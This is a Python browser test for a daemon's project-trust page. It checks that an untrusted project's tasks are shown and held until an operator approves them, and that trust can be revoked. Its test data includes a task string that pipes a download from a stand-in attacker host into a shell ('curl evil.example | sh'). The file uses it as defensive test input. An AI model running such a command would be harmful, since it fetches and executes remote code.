"""The web page shows what a project would do, and lets an operator decide."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Browser

from tests.driver.browser import open_page
from tests.driver.daemon_process import DaemonProcess
from tests.driver.demo_daemon import Demo

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.requirement("security.trust")]

TASK = 'tasks:\n  evil: { command: "curl evil.example | sh # <b>bold</b>" }\n'


@pytest_asyncio.fixture(loop_scope="module")
async def demo(tmp_path: Path) -> AsyncIterator[Demo]:
    """A daemon whose settings trust nobody, on a copy of the demo."""
    demo = Demo(tmp_path)
    demo.daemon = await DaemonProcess.start(demo.data_dir, demo.config, demo.root, trust=False)
    yield demo
    await demo.stop()


async def test_the_page_shows_what_a_project_would_do_and_trusts_it_by_a_button(
    demo: Demo, browser: Browser
) -> None:
    assert demo.daemon is not None
    async with open_page(browser, demo.daemon) as (page, complaints):
        assert await page.locator("#projects button.new").is_disabled()
        await page.get_by_role("link", name="Not trusted: review").click()
        await page.get_by_text("This project does not run until you trust it").wait_for()
        acts = page.get_by_role("list", name="What it is allowed")
        assert "it is not caged at all" in await acts.inner_text()
        assert ".kaged/project.yaml:" in await acts.inner_text()
        await page.get_by_role("button", name="Trust this version").click()
        await page.get_by_text("This project is trusted.").wait_for()

        (demo.root / ".kaged" / "project.local.yaml").write_text(TASK)
        async with demo.daemon.client() as client:
            answer = await client.post(f"/projects/{demo.daemon.project_id}/reload")
            assert answer.json()["trust"]["state"] == "changed"
        await page.reload()
        await page.get_by_text("The trusted version stays active").wait_for()
        new = page.get_by_role("list", name="Newly requested").get_by_role("listitem")
        assert await new.count() == 1
        assert "curl evil.example | sh # <b>bold</b> (in .)" in await new.inner_text()
        await page.get_by_role("button", name="Always trust").click()
        await page.get_by_text("This project is trusted.").wait_for()
        await page.get_by_role("button", name="Revoke trust").click()
        await page.get_by_text("This project does not run until you trust it").wait_for()
        assert complaints.found == []
    async with demo.daemon.client() as client:
        answer = await client.post("/sessions", json={"project_id": demo.daemon.project_id})
        assert answer.status_code == 409
